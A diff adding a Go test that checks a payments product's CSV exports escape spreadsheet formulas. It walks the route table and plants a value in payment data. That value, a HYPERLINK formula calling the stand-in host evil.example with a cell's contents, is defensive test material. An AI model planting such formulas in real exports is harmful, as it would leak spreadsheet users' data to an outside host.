@@ -1,0 +1,124 @@
+package console_test
+
+import (
+	"encoding/csv"
+	"net/http"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"kwarta/internal/console"
+	"kwarta/internal/payment"
+	"kwarta/internal/server/servertest"
+	"kwarta/internal/store"
+	"kwarta/internal/store/storetest"
+)
+
+// formula is the value planted in every export: a spreadsheet would run it.
+const formula = `=HYPERLINK("http://evil.example/?x="&A1,"open")`
+
+// csvExport is how the test exercises one CSV route: plant puts formula
+// into the data the route exports (through the real calls where it can,
+// in the owner's table where the real calls would refuse it) and answers
+// the query that downloads it.
+type csvExport struct {
+	plant func(t *testing.T, env *servertest.Env, db *store.DB) url.Values
+}
+
+// csvExports is every CSV the product writes, by route ("METHOD path").
+// A new CSV route adds its entry here (the test fails until it does):
+// plant formula in what it exports and return the download's query.
+var csvExports = map[string]csvExport{
+	"GET /admin/api/payments/totals.csv": {plant: func(t *testing.T, env *servertest.Env, db *store.DB) url.Values {
+		// A payment of today whose channel holds the formula (one
+		// credited before the postback fields were checked).
+		txn, ref, due := payCode81(t, env)
+		if r := postback(t, env, payment.Postback{TxnID: txn, RefNo: ref, Status: payment.StatusSuccess, Message: "paid", Amount: due, Currency: "PHP", Channel: "GCSH"}); r.Status != http.StatusOK {
+			t.Fatalf("postback: %d %s", r.Status, r.Body)
+		}
+		if _, err := db.Exec(t.Context(), `UPDATE payments SET channel = ? WHERE ref_no = ?`, formula, ref); err != nil {
+			t.Fatal(err)
+		}
+		today := env.Clock.Now().In(env.App.Config.Market.Location()).Format(time.DateOnly)
+		return url.Values{"from": {today}, "to": {today}}
+	}},
+}
+
+// notCSV are the routes that write their own answer (Raw) but no CSV, so
+// a Raw route that starts writing CSV under another name is noticed too.
+var notCSV = []string{
+	"GET /openapi.json",                       // the API document
+	"GET /api/v2/youmi/promotion/get-captcha", // a picture code
+	"GET /v3/contract/document",               // an agreement, HTML
+	"GET /files/{name}",                       // a stored image
+	"GET /user-problem/image/{name}",          // a complaint image
+	"GET /admin/api/complaints/image/{name}",  // a complaint image, for operators
+	"POST /payments/postback",                 // the provider's postback: text
+	"GET /payments/postback",                  // the same, sent as a query
+	"GET /payments/channels/{name}",           // a channel's logo
+	"GET /payments/sandbox/{txnid}",           // the sandbox's pay page
+	"POST /payments/sandbox/{txnid}",          // its buttons
+}
+
+// TestExports_EscapeFormulas walks the real route table: every route that
+// answers CSV (its path ends .csv, or it is Raw and not listed in notCSV)
+// must have an entry in csvExports, and each export, downloaded after the
+// formula is planted in its data, holds the cell as text ('=...).
+func TestExports_EscapeFormulas(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, db *store.DB) {
+		env := servertest.New(t, db)
+		admin := enrol(t, env, "ana", console.Admin)
+		seen := map[string]bool{}
+		for _, rt := range env.App.Routes() {
+			key := rt.Method + " " + rt.Path
+			isCSV := strings.HasSuffix(rt.Path, ".csv")
+			if !isCSV && !rt.Raw {
+				continue
+			}
+			if !isCSV && slices.Contains(notCSV, key) {
+				seen[key] = true
+				continue
+			}
+			exp, ok := csvExports[key]
+			if !ok {
+				t.Errorf("%s answers CSV (or is Raw and not in notCSV) but has no entry in csvExports", key)
+				continue
+			}
+			seen[key] = true
+			t.Run(key, func(t *testing.T) {
+				r := admin.call(t, env, rt.Method, rt.Path, exp.plant(t, env, db))
+				if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
+					t.Fatalf("%d %v\n%s", r.Status, r.Header, r.Body)
+				}
+				rows, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
+				if err != nil {
+					t.Fatalf("not CSV: %v\n%s", err, r.Body)
+				}
+				found := false
+				for _, row := range rows {
+					for _, cell := range row {
+						if strings.Contains(cell, "HYPERLINK") && cell != "'"+formula {
+							t.Errorf("a cell holds the formula unescaped: %q", cell)
+						}
+						found = found || cell == "'"+formula
+					}
+				}
+				if !found {
+					t.Errorf("the planted value is not in the export:\n%s", r.Body)
+				}
+			})
+		}
+		for key := range csvExports {
+			if !seen[key] {
+				t.Errorf("csvExports lists %s, which is not a route", key)
+			}
+		}
+		for _, key := range notCSV {
+			if !seen[key] {
+				t.Errorf("notCSV lists %s, which is not a Raw route", key)
+			}
+		}
+	})
+}
